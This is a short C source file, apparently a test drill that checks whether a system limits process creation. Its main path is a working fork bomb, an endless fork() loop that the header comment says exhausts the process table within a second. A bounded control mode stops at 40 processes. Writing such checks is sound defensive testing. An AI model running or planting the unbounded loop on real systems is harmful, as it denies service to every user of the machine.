/* attack.c - proc-fork-bomb
 *
 * Every process makes another one, for ever. Without a limit on the whole tree the machine has no number left for
 * anybody else within a second. Bare, it stops by itself at 40 processes that are alive at once. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

static int bounded(void)
{
    pid_t children[40];
    int alive = 0;

    while (alive < 40 && (children[alive] = fork()) > 0)
        alive++;
    if (alive < 40 && children[alive] == 0) {
        (void)alarm(5); /* never outlives the test by much */
        (void)pause();
        _exit(0);
    }
    for (int i = 0; i < alive; i++) {
        (void)kill(children[i], SIGKILL);
        (void)waitpid(children[i], NULL, 0);
    }
    printf("%d at once\n", alive);
    return alive == 40 ? 10 : 0;
}

int main(void)
{
    if (getenv("DRILL_CONTROL"))
        return bounded();
    for (;;)
        (void)fork();
}
